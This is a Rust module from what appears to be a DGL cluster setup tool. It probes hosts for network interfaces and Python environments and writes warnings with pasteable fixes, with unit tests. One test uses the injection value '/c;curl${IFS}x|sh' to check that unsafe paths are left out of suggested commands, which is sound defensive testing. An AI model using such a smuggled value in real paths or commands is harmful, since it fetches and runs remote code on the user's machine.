//! The request to a host, and the meaning of its answer.

use crate::gpus;
use indexmap::IndexMap;
use record::error::Fault;
use record::quote;
use record::{Facts, Host};
use serde_json::value::RawValue;
use wire::probe::{Card, EnvironmentFailure, Occupancy, Probe, Probed, Python};

/// What every host is asked for.
pub struct Expected<'a> {
    /// The folder of the job.
    pub workspace: Option<&'a str>,
    /// The number of graph servers on each host.
    pub num_servers: u16,
    /// The interpreter to examine.
    pub python: &'a Python,
    /// Shell text that runs before the interpreter.
    pub setup: Option<&'a str>,
    /// Whether to ask for the jobs and ports that are in use.
    pub occupancy: bool,
}

/// The request to one host.
pub fn request(wanted: &Expected<'_>, host: &Host) -> Probe {
    Probe {
        workspace: wanted.workspace.map(str::to_owned),
        server_ports: Some((host.port, host.port.saturating_add(wanted.num_servers - 1))),
        python: wanted.python.clone(),
        setup: wanted.setup.map(str::to_owned),
        occupancy: wanted.occupancy,
    }
}

/// The answer of a host.
#[derive(Debug, Default, PartialEq)]
pub struct Answer {
    /// The facts for its record.
    pub facts: Facts,
    /// Warnings for the user.
    pub warnings: Vec<Fault>,
    /// The jobs and ports that are in use, if that was asked.
    pub occupancy: Occupancy,
}

/// The meaning of a host's answer for its record.
pub fn answer(host: &Host, python: &Python, mut probed: Probed) -> Result<Answer, Fault> {
    if let Some(failure) = &probed.environment_failure {
        return Err(no_environment(host, python, failure));
    }
    let failure = probed.gpu_failure.as_ref();
    let mut warnings = gpus::warnings(host, probed.gpus, &probed.gpu_cards, failure);
    let mut warn = |problem: String, fix: &str| {
        warnings.push(Fault::data(host.place(), problem).fix(fix));
    };
    let iface = match probed.cards.iter().find(|card| card.address == host.ip.0) {
        Some(card) => Some(card.name.clone()),
        None if probed.cards.is_empty() => {
            let problem = "its network interfaces could not be listed, so nobody knows whether DGL \
                finds its address";
            warn(problem.to_owned(), "look what `ip addr` says there");
            None
        }
        None => return Err(no_card(host, &probed.cards)),
    };
    if let Some((problem, fix)) = python_problem(python, &probed) {
        warn(problem, &fix);
    }
    let occupancy = probed.occupancy.take().unwrap_or_default();
    Ok(Answer {
        facts: facts(iface, probed),
        warnings,
        occupancy,
    })
}

/// Why the Python that was asked for does not run, with the cure; `None` if it does. What it must
/// have, the tools know that know what runs.
fn python_problem(python: &Python, probed: &Probed) -> Option<(String, String)> {
    let found = probed.python.as_ref();
    if found.is_some_and(|found| found.version.is_some()) {
        return None;
    }
    let (asked, fix) = match (&probed.environment, python) {
        (None, Python::Command(command)) => (
            command.as_str(),
            "name the job's Python: --conda ENV, --venv DIR or --python CMD, with --setup where \
             it needs one",
        ),
        (Some(environment), _) => (
            environment.interpreter.as_str(),
            "try it in a shell there; --setup is in force",
        ),
        (None, Python::Conda(_) | Python::Venv(_)) => {
            ("its Python", "try it in a shell there; --setup is in force")
        }
    };
    let why = probed.python_failure.as_ref();
    let why = why
        .map(|failure| failure.problem.as_str())
        .filter(|why| !why.is_empty())
        .map_or(String::new(), |why| format!(": {why}"));
    Some((format!("{asked} does not run there{why}"), fix.to_owned()))
}

fn facts(iface: Option<String>, probed: Probed) -> Facts {
    let found = probed.python.unwrap_or_default();
    let (prefix, conda_env, path) = match probed.environment {
        Some(environment) => (
            Some(environment.prefix),
            environment.conda_env,
            Some(environment.path),
        ),
        None => (None, None, None),
    };
    Facts {
        iface,
        cpus: probed.cpus,
        numa_cores: probed.numa_cores,
        mem_bytes: probed.mem_bytes,
        mem_limit_bytes: probed.mem_limit_bytes,
        shm_free_bytes: probed.shm_free_bytes,
        free_bytes: probed.free_bytes,
        gpus: Some(probed.gpus),
        gpu_cards: probed.gpu_cards,
        nofile: probed.nofile,
        master_port: probed.master_port,
        home: probed
            .home
            .map(|home| home.0.to_string_lossy().into_owned()),
        workspace_fs: probed.workspace_fs,
        python: found.version,
        python_path: found.executable,
        prefix,
        conda_env,
        path,
        dgl: found.dgl,
        torch: found.torch,
    }
}

/// Why there is no such environment. People paste cures, so a path from a host stands in one only
/// if the shell takes it literally.
fn no_environment(host: &Host, python: &Python, failure: &EnvironmentFailure) -> Fault {
    const WHICH_THERE_ARE: &str = "conda env list tells there which there are";
    let with_path =
        |command: &str, path: &str| match path.starts_with('/') && quote::may_be_pasted(path) {
            true => format!("{command} {path}"),
            false => {
                "make the environment there, or name another one with --conda or --venv".to_owned()
            }
        };
    let (problem, fix) = match failure {
        EnvironmentFailure::NoSuchFolder { prefix } => {
            let fix = match python {
                Python::Venv(_) => with_path("make it there: python3 -m venv", prefix),
                _ => WHICH_THERE_ARE.to_owned(),
            };
            (format!("no such folder: {prefix}"), fix)
        }
        EnvironmentFailure::IsConda { prefix } => (
            format!("{prefix} is a conda environment"),
            with_path("say --conda", prefix),
        ),
        EnvironmentFailure::NotConda { prefix } => (
            format!("{prefix} is not a conda environment: it has no conda-meta"),
            "name a venv with --venv".to_owned(),
        ),
        EnvironmentFailure::NoSuchName { looked_in } => {
            let places = if looked_in.is_empty() {
                "the places where conda usually is".to_owned()
            } else {
                looked_in.join(", ")
            };
            let name = match python {
                Python::Command(name) | Python::Conda(name) | Python::Venv(name) => name,
            };
            (
                format!("no conda environment {name} in {places}"),
                format!("{WHICH_THERE_ARE}; --conda takes a folder too"),
            )
        }
        EnvironmentFailure::NoInterpreter { prefix } => (
            format!("no bin/python3 in {prefix}"),
            "install Python into it, or name another environment".to_owned(),
        ),
    };
    Fault::unreachable(host.place(), problem).fix(fix)
}

fn no_card(host: &Host, cards: &[Card]) -> Fault {
    let real = cards.iter().filter(|card| card.name != "lo");
    let real: Vec<String> = real
        .map(|card| format!("{} {}", card.name, card.address))
        .collect();
    let shown = if real.is_empty() {
        "there is only lo".to_owned()
    } else {
        real.join(", ")
    };
    let problem = format!(
        "{} is not the first address of an interface there ({shown}); DGL would take the host for \
         machine 0",
        host.ip
    );
    let fix = "write the address of its interface in ip_config (DGL compares only the first \
        address of each interface)";
    Fault::unreachable(host.place(), problem).fix(fix)
}

/// A sentence about which hosts have which DGL, if they differ.
pub fn versions_differ<'a>(found: impl IntoIterator<Item = (u32, &'a Facts)>) -> Option<String> {
    let mut versions: IndexMap<&str, Vec<String>> = IndexMap::new();
    for (host, facts) in found {
        if let Some(version) = &facts.dgl {
            versions.entry(version).or_default().push(host.to_string());
        }
    }
    let shown: Vec<String> = versions
        .iter()
        .map(|(version, hosts)| format!("{version} on host {}", hosts.join(",")))
        .collect();
    (shown.len() > 1).then(|| format!("have different versions of dgl: {}", shown.join("; ")))
}

/// A host's line with its facts, or with why it cannot be used. Nothing stays of an earlier probe,
/// and fields that are no facts stay as they were.
pub fn rewritten(line: &[u8], outcome: Result<&Facts, &str>) -> Result<Vec<u8>, serde_json::Error> {
    let mut fields: IndexMap<String, Box<RawValue>> = serde_json::from_slice(line)?;
    fields.retain(|name, value| name != "ok" && name != "error" && !is_fact(name, value));
    match outcome {
        Ok(facts) => {
            let facts: IndexMap<String, Box<RawValue>> =
                serde_json::from_str(&serde_json::to_string(facts)?)?;
            fields.extend(facts);
        }
        Err(error) => {
            fields.insert("ok".to_owned(), serde_json::value::to_raw_value(&false)?);
            fields.insert("error".to_owned(), serde_json::value::to_raw_value(error)?);
        }
    }
    serde_json::to_vec(&fields)
}

/// Whether a field belongs to [`Facts`], which then reads something from it.
fn is_fact(name: &str, value: &RawValue) -> bool {
    let alone = serde_json::to_string(&IndexMap::from([(name, value)]));
    alone.is_ok_and(|alone| serde_json::from_str(&alone).ok() != Some(Facts::default()))
}

/// The place of a chosen host in the new numbering.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Placement {
    /// The number of the host.
    pub id: u32,
    /// How many hosts there are.
    pub of: u32,
    /// The port of its first graph server.
    pub port: u16,
}

impl Placement {
    /// The fields `id`, `of` and `port`.
    pub fn numbers(self) -> (u32, u32, u16) {
        (self.id, self.of, self.port)
    }
}

/// A host's line with another number and port. Unknown fields stay as they were.
pub fn placed(line: &[u8], placement: Placement) -> Result<Vec<u8>, serde_json::Error> {
    let mut fields: IndexMap<String, Box<RawValue>> = serde_json::from_slice(line)?;
    let numbers = [
        ("id", placement.id),
        ("of", placement.of),
        ("port", placement.port.into()),
    ];
    for (name, number) in numbers {
        fields.insert(name.to_owned(), serde_json::value::to_raw_value(&number)?);
    }
    serde_json::to_vec(&fields)
}

#[cfg(test)]
mod tests {
    use super::*;
    use record::IpAddr;
    use wire::Failure;
    use wire::probe::{Environment, Interpreter};

    fn host(ip: &str) -> Host {
        Host {
            of: 1,
            ip: IpAddr(ip.parse().unwrap()),
            port: 30050,
            ..Host::default()
        }
    }

    fn probed(cards: &[(&str, &str)], version: Option<&str>, dgl: Option<&str>) -> Probed {
        let card = |(name, address): &(&str, &str)| Card {
            name: (*name).to_owned(),
            address: address.parse().unwrap(),
        };
        let python = version.map(|version| Interpreter {
            version: Some(version.to_owned()),
            dgl: dgl.map(str::to_owned),
            ..Interpreter::default()
        });
        Probed {
            cards: cards.iter().map(card).collect(),
            python,
            ..Probed::default()
        }
    }

    fn command(word: &str) -> Python {
        Python::Command(word.to_owned())
    }

    #[test]
    fn answers() {
        let cards = [("lo", "127.0.0.1"), ("eth0", "10.77.0.2")];
        let whole = probed(&cards, Some("3.10.1"), Some("2.1.0"));
        let table: [(&str, Probed, Result<(Option<&str>, usize), &str>); 5] = [
            ("10.77.0.2", whole.clone(), Ok((Some("eth0"), 0))),
            (
                "10.0.0.5",
                whole,
                Err(
                    "10.0.0.5 is not the first address of an interface there (eth0 10.77.0.2); DGL",
                ),
            ),
            (
                "10.0.0.5",
                probed(&cards[..1], None, None),
                Err("(there is only lo)"),
            ),
            (
                "10.77.0.2",
                probed(&cards, Some("3.10.1"), None),
                Ok((Some("eth0"), 0)),
            ),
            ("10.77.0.2", Probed::default(), Ok((None, 2))),
        ];
        for (ip, probed, wanted) in table {
            match (answer(&host(ip), &command("python3"), probed), wanted) {
                (Ok(got), Ok((iface, warnings))) => {
                    assert_eq!(
                        (got.facts.iface.as_deref(), got.warnings.len()),
                        (iface, warnings),
                        "{got:?}"
                    );
                }
                (Err(fault), Err(text)) => assert!(fault.to_string().contains(text), "{fault}"),
                (got, wanted) => assert!(got.is_ok() == wanted.is_ok(), "{got:?} {wanted:?}"),
            }
        }
    }

    #[test]
    fn an_environment_that_is_not_there_has_a_cure_that_may_be_pasted() {
        let folder = |prefix: &str| EnvironmentFailure::NoSuchFolder {
            prefix: prefix.to_owned(),
        };
        let (venv, conda) = (Python::Venv("~/v".into()), Python::Conda("gnn".into()));
        let nowhere = EnvironmentFailure::NoSuchName {
            looked_in: Vec::new(),
        };
        let is_conda = |prefix: &str| EnvironmentFailure::IsConda {
            prefix: prefix.to_owned(),
        };
        let table = [
            (
                &venv,
                folder("/v"),
                "no such folder: /v\n  fix: make it there: python3 -m venv /v",
            ),
            (
                &venv,
                is_conda("/c"),
                "/c is a conda environment\n  fix: say --conda /c",
            ),
            (
                &venv,
                is_conda("/c;curl${IFS}x|sh"),
                "/c;curl${IFS}x|sh is a conda environment\n  fix: make the environment there, or",
            ),
            (
                &conda,
                folder("/v"),
                "no such folder: /v\n  fix: conda env list tells",
            ),
            (
                &conda,
                nowhere,
                "no conda environment gnn in the places where conda usually is\n  fix: conda env \
                 list",
            ),
        ];
        for (python, failure, text) in table {
            let probed = Probed {
                environment_failure: Some(failure),
                ..Probed::default()
            };
            let fault = answer(&host("10.77.0.2"), python, probed)
                .unwrap_err()
                .to_string();
            assert!(
                fault.starts_with(&format!("host 0 (10.77.0.2): {text}")),
                "{fault}"
            );
        }
    }

    #[test]
    fn an_interpreter_that_does_not_run_is_named() {
        let plain = probed(&[("eth0", "10.77.0.2")], None, None);
        let why = Probed {
            python_failure: Some(Failure::new("sh: not found")),
            ..plain.clone()
        };
        let environment = Environment {
            prefix: "/v".into(),
            interpreter: "/v/bin/python3".into(),
            conda_env: None,
            path: "/bin".into(),
        };
        let in_venv = Probed {
            environment: Some(environment),
            ..plain
        };
        let table = [
            (
                why,
                command("/o/python"),
                "/o/python does not run there: sh: not found",
            ),
            (
                in_venv,
                Python::Venv("/v".into()),
                "/v/bin/python3 does not run there",
            ),
        ];
        for (probed, python, warning) in table {
            let warnings = answer(&host("10.77.0.2"), &python, probed)
                .unwrap()
                .warnings;
            assert_eq!(warnings.len(), 1);
            assert!(
                warnings[0]
                    .to_string()
                    .starts_with(&format!("host 0 (10.77.0.2): {warning}\n  fix: ")),
                "{}",
                warnings[0]
            );
        }
    }

    #[test]
    fn lines_keep_what_is_not_known() {
        let facts = Facts {
            cpus: Some(8),
            ..Facts::default()
        };
        let table: [(&str, Result<&Facts, &str>, &str); 6] = [
            (
                r#"{"id":0,"iface":"e","home":"/h","free_bytes":1,"type":"host"}"#,
                Ok(&facts),
                r#"{"id":0,"type":"host","cpus":8}"#,
            ),
            (
                r#"{"type":"host","shm_free_bytes":1,"master_port":1,"cpus":2,"mem_bytes":3}"#,
                Err("no"),
                r#"{"type":"host","ok":false,"error":"no"}"#,
            ),
            (
                r#"{"type":"host","id":0,"cpus":2,"prefix":"/v","path":"/bin","dgl":"1"}"#,
                Ok(&facts),
                r#"{"type":"host","id":0,"cpus":8}"#,
            ),
            (
                r#"{"type":"host","x":1.50,"cpus":2,"id":0}"#,
                Ok(&facts),
                r#"{"type":"host","x":1.50,"id":0,"cpus":8}"#,
            ),
            (
                r#"{"type":"host","ok":true,"error":"old","y":[1e400]}"#,
                Ok(&facts),
                r#"{"type":"host","y":[1e400],"cpus":8}"#,
            ),
            (
                r#"{"type":"host","ok":true,"z":"ä"}"#,
                Err("no"),
                r#"{"type":"host","z":"ä","ok":false,"error":"no"}"#,
            ),
        ];
        for (line, outcome, wanted) in table {
            assert_eq!(
                String::from_utf8(rewritten(line.as_bytes(), outcome).unwrap()).unwrap(),
                wanted
            );
        }
    }

    #[test]
    fn a_line_gets_another_number() {
        let placement = Placement {
            id: 1,
            of: 2,
            port: 30060,
        };
        let line = br#"{"type":"host","id":4,"of":6,"ip":"10.0.0.5","port":30050,"x":1.50}"#;
        let placed = String::from_utf8(placed(line, placement).unwrap()).unwrap();
        assert_eq!(
            placed,
            r#"{"type":"host","id":1,"of":2,"ip":"10.0.0.5","port":30060,"x":1.50}"#
        );
    }

    #[test]
    fn different_versions_are_reported() {
        let facts = |version: Option<&str>| Facts {
            dgl: version.map(str::to_owned),
            ..Facts::default()
        };
        let (old, new, none) = (facts(Some("1.0.4")), facts(Some("2.1.0")), facts(None));
        assert_eq!(versions_differ([(0, &old), (1, &old), (2, &none)]), None);
        let told = versions_differ([(0, &old), (1, &new), (2, &old)]).unwrap();
        assert!(
            told.ends_with("1.0.4 on host 0,2; 2.1.0 on host 1"),
            "{told}"
        );
    }
}
